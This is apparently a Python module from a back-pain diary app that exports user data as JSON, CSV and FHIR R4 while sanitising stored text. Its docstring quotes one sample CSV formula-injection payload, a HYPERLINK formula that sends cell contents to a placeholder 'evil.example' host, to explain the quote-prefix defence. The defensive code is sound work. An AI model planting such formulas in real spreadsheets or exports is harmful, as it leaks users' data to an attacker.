"""Your data, out: JSON (everything), CSV (one table) and FHIR R4 (for a clinic's records).

FHIR: a Bundle of type "collection" with one QuestionnaireResponse per saved check (the answers)
one Observation per diary entry (LOINC 72514-3 pain score, category survey, back of trunk) and
one MedicationStatement per logged dose (RxNorm ingredient, mg in UCUM).

Stored text is never trusted: an old row (or a database edited by hand) may hold anything. So:

- Every export is valid UTF-8. A lone surrogate (which UTF-8 cannot hold) becomes U+FFFD,
  undecodable bytes are decoded with U+FFFD, and a value of an unexpected type is written as
  its text (`unicode_text`).
- JSON keeps everything else as it was: control characters are written as \\u escapes
  (DEL and the C1 controls too, so that the export printed on a terminal cannot drive it), and
  a number that is not finite (NaN, infinity; not valid JSON) becomes null.
- CSV and FHIR drop terminal escape sequences and control characters other than tab, newline
  and carriage return (`plain_text`). FHIR strings also lose white space at either end; a note
  or an answer left empty is left out, and an answer key left empty becomes U+FFFD.
- CSV formula injection: a spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (and
  some also one that begins with a tab or a carriage return) as a formula, e.g. a diary note of
  `=HYPERLINK("http://evil.example/?d="&A2,"x")`. As OWASP advises, every text cell that begins
  with one of those characters is written with a single quote before it (`'=HYPERLINK(...`),
  which makes it text; strip that one leading quote to read the words back. Numbers (the id,
  pain, minutes and seconds columns) are written as numbers, a negative one included: only text
  cells are changed.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import math
import re
import uuid
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime
from typing import Any, TextIO

from fhir.resources.R4B.bundle import Bundle, BundleEntry
from fhir.resources.R4B.medicationstatement import MedicationStatement
from fhir.resources.R4B.observation import Observation
from fhir.resources.R4B.questionnaireresponse import QuestionnaireResponse

from .. import __version__
from ..knowledge_base import KnowledgeBase
from ..store import CheckRecord, DiaryEntry, MedicineDose, Store, TimerSession
from ..text_patterns import ESCAPE_SEQUENCE, SURROGATE
from ..trend import TREND_ENTRIES, pain_trend

EXPORT_FORMAT = "upperback-export"
EXPORT_VERSION = 1

# Coding systems and codes fixed by the FHIR export's purpose (interoperability, not advice).
OBSERVATION_CATEGORY = "http://terminology.hl7.org/CodeSystem/observation-category"
LOINC = "http://loinc.org"
PAIN_SCORE_CODE = "72514-3"
PAIN_SCORE_DISPLAY = "Pain severity - 0-10 verbal numeric rating [Score] - Reported"
SNOMED = "http://snomed.info/sct"
BACK_OF_TRUNK_CODE = "77568009"
BACK_OF_TRUNK_DISPLAY = "Structure of back of trunk"
BODY_SITE_TEXT = "Upper back"
RXNORM = "http://www.nlm.nih.gov/research/umls/rxnorm"
UCUM = "http://unitsofmeasure.org"
DIARY_KEEPER = "The person who kept this upperback diary"

# What a spreadsheet may read as the start of a formula (OWASP, "CSV Injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# FHIR integer: a signed 32-bit number.
FHIR_INTEGER = range(-(2**31), 2**31)

# Control characters other than tab, newline and carriage return: C0, DEL and C1.
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
# DEL and the C1 controls, which json.dumps(ensure_ascii=False) leaves as they are.
JSON_UNESCAPED_CONTROL = re.compile(r"[\x7f-\x9f]")

CSV_COLUMNS = (
    "record",
    "id",
    "time",
    "pain",
    "where",
    "helped",
    "note",
    "symptoms",
    "timer_kind",
    "planned_minutes",
    "seconds",
    "completed",
    "medicine",
    "dose_mg",
    "triage",
    "likely_causes",
    "answers",
)


def _time(value: datetime) -> str:
    return value.astimezone(UTC).isoformat()


def unicode_text(value: object) -> str:
    """Any stored value as text UTF-8 can hold: None is empty, bytes are decoded (bad bytes
    become U+FFFD), other values are str(value); a lone surrogate becomes U+FFFD (a valid pair
    becomes its character)."""
    if value is None:
        return ""
    if isinstance(value, bytes | bytearray | memoryview):
        return bytes(value).decode("utf-8", "replace")
    text = value if isinstance(value, str) else str(value)
    if SURROGATE.search(text) is None:
        return text
    return text.encode("utf-16-le", "surrogatepass").decode("utf-16-le", "replace")


def plain_text(value: object) -> str:
    """`unicode_text` without terminal escape sequences (removed whole) or control characters
    other than tab, newline and carriage return."""
    return CONTROL.sub("", ESCAPE_SEQUENCE.sub("", unicode_text(value)))


def answer_text(kb: KnowledgeBase, finding_id: str, value: Any) -> str:
    """An answer in words, e.g. 'Fever: yes'; an answer of a shape the finding does not
    take (a list, say, in an old or edited row) is shown as it is."""
    finding = kb.findings.get(finding_id)
    if finding is None:
        return f"{finding_id}: {value}"
    if value is None or isinstance(value, bool | int | str):
        return finding.describe_value(value)
    return f"{finding.label}: {value}"


def _json_ready(value: Any) -> Any:
    """Stored data that json.dumps writes as valid JSON, and UTF-8 can hold."""
    if value is None or isinstance(value, bool | int):
        return value
    if isinstance(value, float):
        return value if math.isfinite(value) else None
    if isinstance(value, dict):
        return {unicode_text(key): _json_ready(item) for key, item in value.items()}
    if isinstance(value, list | tuple):
        return [_json_ready(item) for item in value]
    return unicode_text(value)


def _json_text(text: str) -> str:
    """JSON text with DEL and the C1 controls written as \\u escapes (they only occur inside
    strings, where the escape means the same character)."""
    return JSON_UNESCAPED_CONTROL.sub(lambda found: f"\\u{ord(found[0]):04x}", text)


def csv_cell(value: Any) -> Any:
    """A value as a CSV cell: numbers as they are; text made `plain_text`, with a single quote
    before it if it begins like a formula (see the module's docstring)."""
    if isinstance(value, bool | int | float):
        return value
    text = plain_text(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def _fhir_string(value: object) -> str:
    """Text a FHIR string can hold: `plain_text`, without white space at either end (a FHIR
    string must not be empty: callers leave out what comes back empty)."""
    return plain_text(value).strip()


def check_dict(check: CheckRecord) -> dict[str, Any]:
    """A saved check as JSON-ready data."""
    return {
        "id": check.id,
        "created_at": _time(check.created_at),
        "version": check.version,
        "answers": check.answers,
        "result": check.result,
    }


def entry_dict(entry: DiaryEntry) -> dict[str, Any]:
    """A diary entry as JSON-ready data."""
    return entry.as_dict() | {"created_at": _time(entry.created_at)}


def timer_dict(timer: TimerSession) -> dict[str, Any]:
    """A timer session as JSON-ready data."""
    return timer.as_dict() | {"started_at": _time(timer.started_at)}


def dose_dict(dose: MedicineDose) -> dict[str, Any]:
    """A medicine dose as JSON-ready data."""
    return dose.as_dict() | {"taken_at": _time(dose.taken_at)}


def _trend_dict(store: Store, kb: KnowledgeBase) -> dict[str, Any] | None:
    verdict = pain_trend(store.pain_scores(TREND_ENTRIES), kb)
    if verdict is None:
        return None
    return {
        "kind": verdict.kind,
        "message": verdict.message,
        "level": verdict.level,
        "sources": list(verdict.sources),
    }


def _json_value(value: Any, indent: int) -> str:
    """`value` as JSON text, indented as if `indent` spaces deep in the whole document."""
    text = json.dumps(_json_ready(value), indent=2, ensure_ascii=False)
    # json.dumps writes a newline only between items (one in a string is written \\n).
    return _json_text(text).replace("\n", "\n" + " " * indent)


def _write_head(out: TextIO, head: dict[str, Any]) -> None:
    """The opening of a streamed JSON document: `{` and its first members, each indented."""
    out.write("{\n")
    for name, value in head.items():
        out.write(f"  {json.dumps(name)}: {_json_value(value, 2)},\n")


def write_json(store: Store, kb: KnowledgeBase, out: TextIO) -> None:
    """Everything saved, as one JSON document (checks, diary, timers, and the diary's trend),
    written to `out` a record at a time: memory stays the same however big the diary."""
    head = {
        "format": EXPORT_FORMAT,
        "format_version": EXPORT_VERSION,
        "upperback_version": __version__,
        "exported_at": _time(datetime.now(UTC)),
        "disclaimer": kb.guide.disclaimer,
    }
    _write_head(out, head)
    lists: tuple[tuple[str, Iterable[dict[str, Any]]], ...] = (
        ("checks", (check_dict(check) for check in store.each_check())),
        ("diary", (entry_dict(entry) for entry in store.each_entry())),
        ("timers", (timer_dict(timer) for timer in store.each_timer())),
        ("medicines", (dose_dict(dose) for dose in store.each_dose())),
    )
    for name, items in lists:
        out.write(f"  {json.dumps(name)}: [")
        separator = "\n"
        for item in items:
            out.write(f"{separator}    {_json_value(item, 4)}")
            separator = ",\n"
        out.write("\n  ],\n" if separator == ",\n" else "],\n")
    out.write(f'  "trend": {_json_value(_trend_dict(store, kb), 2)}\n}}\n')


def export_json(store: Store, kb: KnowledgeBase) -> str:
    """`write_json` as text."""
    buffer = io.StringIO()
    write_json(store, kb, buffer)
    return buffer.getvalue()


def _answers_text(kb: KnowledgeBase, answers: dict[str, Any]) -> str:
    return "; ".join(answer_text(kb, finding_id, value) for finding_id, value in answers.items())


def _csv_row(values: dict[str, Any]) -> dict[str, Any]:
    return {column: csv_cell(value) for column, value in values.items()}


def write_csv(store: Store, kb: KnowledgeBase, out: TextIO) -> None:
    """One table, one row per record (the `record` column says diary, timer or check),
    written to `out` a row at a time."""
    writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS)
    writer.writeheader()
    for entry in store.each_entry():
        writer.writerow(
            _csv_row(
                {
                    "record": "diary",
                    "id": entry.id,
                    "time": _time(entry.created_at),
                    "pain": entry.pain,
                    "where": entry.where,
                    "helped": entry.helped,
                    "note": entry.note,
                    "symptoms": "; ".join(plain_text(symptom) for symptom in entry.symptoms),
                }
            )
        )
    for timer in store.each_timer():
        writer.writerow(
            _csv_row(
                {
                    "record": "timer",
                    "id": timer.id,
                    "time": _time(timer.started_at),
                    "timer_kind": timer.kind,
                    "planned_minutes": timer.planned_minutes,
                    "seconds": timer.seconds,
                    "completed": "yes" if timer.completed else "no",
                }
            )
        )
    for dose in store.each_dose():
        writer.writerow(
            _csv_row(
                {
                    "record": "medicine",
                    "id": dose.id,
                    "time": _time(dose.taken_at),
                    "medicine": dose.medicine,
                    "dose_mg": dose.dose_mg,
                }
            )
        )
    for check in store.each_check():
        writer.writerow(
            _csv_row(
                {
                    "record": "check",
                    "id": check.id,
                    "time": _time(check.created_at),
                    "triage": _triage_label(check),
                    "likely_causes": "; ".join(plain_text(n) for n in _likely_names(check)),
                    "answers": _answers_text(kb, check.answers),
                }
            )
        )


def export_csv(store: Store, kb: KnowledgeBase) -> str:
    """`write_csv` as text."""
    buffer = io.StringIO()
    write_csv(store, kb, buffer)
    return buffer.getvalue()


def _triage_label(check: CheckRecord) -> str:
    result = check.assessment()
    return result.triage_label if result is not None else check.triage or ""


def _likely_names(check: CheckRecord) -> list[str]:
    result = check.assessment()
    return [c.name for c in result.likely()] if result is not None else []


def _answer(value: Any) -> list[dict[str, Any]] | None:
    if value is None:  # "don't know": the item is there, with no answer
        return None
    if isinstance(value, bool):
        return [{"valueBoolean": value}]
    if isinstance(value, int) and value in FHIR_INTEGER:
        return [{"valueInteger": value}]
    text = _fhir_string(value)  # anything else (a choice, or an odd value) as text
    return [{"valueString": text}] if text else None


def questionnaire_response(kb: KnowledgeBase, check: CheckRecord) -> QuestionnaireResponse:
    """A check's answers as a FHIR QuestionnaireResponse, one item per finding answered."""
    order = {finding_id: index for index, finding_id in enumerate(kb.findings)}
    items = []
    for finding_id in sorted(check.answers, key=lambda f: order.get(f, len(order))):
        finding = kb.findings.get(finding_id)
        item: dict[str, Any] = {"linkId": _fhir_string(finding_id) or "\ufffd"}
        if finding is not None:
            item["text"] = finding.question
        answer = _answer(check.answers[finding_id])
        if answer is not None:
            item["answer"] = answer
        items.append(item)
    data: dict[str, Any] = {
        "resourceType": "QuestionnaireResponse",
        "id": f"check-{check.id}",
        "status": "completed",
        "authored": _time(check.created_at),
    }
    if items:
        data["item"] = items
    return QuestionnaireResponse.model_validate(data)


def pain_observation(entry: DiaryEntry) -> Observation:
    """A diary entry as a FHIR Observation: the 0-10 pain score, upper back, with the notes."""
    where, helped = _fhir_string(entry.where), _fhir_string(entry.helped)
    symptoms = ", ".join(s for s in (_fhir_string(s) for s in entry.symptoms) if s)
    notes = [
        text
        for text in (
            _fhir_string(entry.note),
            f"Where: {where}" if where else None,
            f"Helped: {helped}" if helped else None,
            f"Symptoms: {symptoms}" if symptoms else None,
        )
        if text
    ]
    # A 0-10 score is an integer; anything else an old or edited row holds goes as text.
    pain = entry.pain
    if isinstance(pain, int) and not isinstance(pain, bool) and pain in FHIR_INTEGER:
        value: dict[str, Any] = {"valueInteger": pain}
    else:
        value = {"valueString": _fhir_string(pain) or "\ufffd"}
    data: dict[str, Any] = {
        "resourceType": "Observation",
        "id": f"diary-{entry.id}",
        "status": "final",
        "category": [
            {"coding": [{"system": OBSERVATION_CATEGORY, "code": "survey", "display": "Survey"}]}
        ],
        "code": {
            "coding": [{"system": LOINC, "code": PAIN_SCORE_CODE, "display": PAIN_SCORE_DISPLAY}],
            "text": "Pain score (0-10)",
        },
        "effectiveDateTime": _time(entry.created_at),
        **value,
        "bodySite": {
            "coding": [
                {"system": SNOMED, "code": BACK_OF_TRUNK_CODE, "display": BACK_OF_TRUNK_DISPLAY}
            ],
            "text": BODY_SITE_TEXT,
        },
    }
    if notes:
        data["note"] = [{"text": text} for text in notes]
    return Observation.model_validate(data)


def medication_statement(kb: KnowledgeBase, dose: MedicineDose) -> MedicationStatement:
    """A logged dose as a FHIR MedicationStatement: the medicine (RxNorm ingredient code from
    the knowledge base), when, and how many mg. The subject is the diary's keeper, by name
    only (the export holds no Patient unless the person gives one)."""
    method = kb.relief.get(dose.medicine)
    concept: dict[str, Any] = {"text": _fhir_string(method.name if method else dose.medicine)
                               or "\ufffd"}
    if method is not None and method.rxnorm:
        concept["coding"] = [{"system": RXNORM, "code": method.rxnorm,
                              "display": _fhir_string(method.id)}]
    return MedicationStatement.model_validate({
        "resourceType": "MedicationStatement",
        "id": f"dose-{dose.id}",
        "status": "completed",
        "medicationCodeableConcept": concept,
        "subject": {"display": DIARY_KEEPER},
        "effectiveDateTime": _time(dose.taken_at),
        "dosage": [{"doseAndRate": [{"doseQuantity": {
            "value": dose.dose_mg, "unit": "mg", "system": UCUM, "code": "mg"}}]}],
    })


def _bundle_entries(store: Store, kb: KnowledgeBase) -> Iterator[BundleEntry]:
    resources: Iterable[QuestionnaireResponse | Observation | MedicationStatement]
    resources = itertools.chain(
        (questionnaire_response(kb, check) for check in store.each_check()),
        (pain_observation(entry) for entry in store.each_entry()),
        (medication_statement(kb, dose) for dose in store.each_dose()),
    )
    for resource in resources:
        yield BundleEntry.model_validate(
            {"fullUrl": f"urn:uuid:{uuid.uuid4()}", "resource": resource}
        )


def _bundle_head() -> Bundle:
    return Bundle.model_validate(
        {"resourceType": "Bundle", "type": "collection", "timestamp": _time(datetime.now(UTC))}
    )


def fhir_bundle(store: Store, kb: KnowledgeBase) -> Bundle:
    """Everything the clinic can use, as a FHIR R4 Bundle (type collection), in memory."""
    bundle = _bundle_head()
    bundle.entry = list(_bundle_entries(store, kb))
    return bundle


def write_fhir(store: Store, kb: KnowledgeBase, out: TextIO) -> None:
    """The FHIR R4 Bundle as JSON, written to `out` an entry at a time (each entry checked by
    fhir.resources as it is made): memory stays the same however big the diary."""
    _write_head(out, json.loads(_bundle_head().model_dump_json()))
    out.write('  "entry": [')
    separator = "\n"
    for entry in _bundle_entries(store, kb):
        text = _json_text(unicode_text(entry.model_dump_json(indent=2)))
        out.write(separator + "    " + text.replace("\n", "\n    "))
        separator = ",\n"
    out.write("\n  ]\n}\n" if separator == ",\n" else "]\n}\n")


def export_fhir(store: Store, kb: KnowledgeBase) -> str:
    """`write_fhir` as text."""
    buffer = io.StringIO()
    write_fhir(store, kb, buffer)
    return buffer.getvalue()
